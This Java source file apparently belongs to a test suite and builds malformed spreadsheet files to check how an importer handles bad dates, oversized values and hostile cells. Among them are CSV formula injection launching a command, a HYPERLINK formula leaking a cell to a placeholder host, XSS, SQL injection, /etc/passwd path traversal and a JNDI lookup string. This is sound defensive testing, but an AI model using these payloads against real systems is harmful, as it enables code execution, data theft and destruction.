package org.goldthread.hostile;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** One cell of a good file that is not what it should be; every other row stays as it was. */
final class HostileCells {
  private static final int ROW = 2;

  private static final List<String> DATES =
      List.of(
          "31/02/2015",
          "00/00/0000",
          "04/13/2015",
          "2015-04-12",
          "12.04.15",
          "12 April 2015",
          "42106",
          "42106.4375",
          "12/04/2015 25:61",
          "12/04/9999",
          "12/04/20155",
          "-12/04/2015",
          "\u0661\u0662/\u0660\u0664/\u0662\u0660\u0661\u0665",
          "12/04/2015T00:00:00Z",
          "soon",
          "1e9",
          "9".repeat(400));

  private HostileCells() {}

  static List<HostileFile> dates() {
    Shelf shelf = new Shelf("dates");
    for (GoodFile good : List.of(GoodFile.PARENTS, GoodFile.SPENDING, GoodFile.REVIEWS)) {
      Table table = good.table();
      for (int i = 0; i < DATES.size(); i++) {
        shelf.table(
            good,
            "date " + (i + 1),
            table.with(ROW, table.column(good.date()), DATES.get(i)),
            good.same().touching(ROW));
      }
    }
    Table sessions = GoodFile.SESSIONS.table();
    for (String heading :
        List.of("Session 31/02/2015", "Session", "Session 22nd", "Session 2015")) {
      shelf.table(
          GoodFile.SESSIONS,
          "a session as " + heading,
          sessions.withHeading(2, heading),
          GoodFile.SESSIONS.same().touchingAll());
    }
    return shelf.files();
  }

  static List<HostileFile> values() {
    Shelf shelf = new Shelf("values");
    for (GoodFile good :
        List.of(GoodFile.PARENTS, GoodFile.SESSIONS, GoodFile.SPENDING, GoodFile.BOOKINGS)) {
      Table table = good.table();
      int column = table.column(good.identifier());
      ofCells()
          .forEach(
              (name, value) ->
                  shelf.table(
                      good, name, table.with(ROW, column, value), good.same().touching(ROW)));
    }
    Table parents = GoodFile.PARENTS.table();
    shelf.table(
        GoodFile.PARENTS,
        "an e-mail address of many dots",
        parents.with(ROW, parents.column("E-mail"), "a.".repeat(60_000) + "@"),
        GoodFile.PARENTS.same().touching(ROW));
    shelf.table(
        GoodFile.PARENTS,
        "a postcode of many blanks",
        parents.with(ROW, parents.column("Postcode"), "S" + " ".repeat(200_000) + "E"),
        GoodFile.PARENTS.same().touching(ROW));
    shelf.table(
        GoodFile.PARENTS,
        "formulas everywhere",
        parents.withRows(row -> row.stream().map(cell -> "=" + cell).toList()),
        GoodFile.PARENTS.same().touchingAll());
    return shelf.files();
  }

  private static Map<String, String> ofCells() {
    Map<String, String> values = new LinkedHashMap<>();
    values.put("a formula", "=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
    values.put("a formula after plus", "+1+cmd|'/C calc'!A0");
    values.put("a formula after minus", "-2+3");
    values.put("a formula after at", "@SUM(A1:A9)");
    values.put("a formula after a tab", "\t=1+1");
    values.put("a formula after a carriage return", "\r=1+1");
    values.put("an apostrophe before a formula", "'=1+1");
    values.put("forty thousand letters", "x".repeat(40_000));
    values.put("a mebibyte", "y".repeat(1 << 20));
    values.put("a mebibyte of accents", "\u0301".repeat(1 << 19));
    values.put("an error of Excel", "#REF!");
    values.put("a page", "<script>alert(1)</script>");
    values.put("a statement", "'; DROP TABLE rows; --");
    values.put("a path", "../../../../etc/passwd\0.csv");
    values.put("a pattern", "{0} ${jndi:ldap://example.org/a} %n%s");
    values.put("letters from right to left", "\u202egnp.exe\u202c");
    values.put("signs beyond the first plane", "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc67");
    values.put("a number beyond all numbers", "1e999999999");
    values.put("ten thousand digits", "9".repeat(10_000));
    values.put("not a number", "NaN");
    values.put("only what nobody sees", "\u200b\u2060\ufeff\u00ad");
    return values;
  }
}
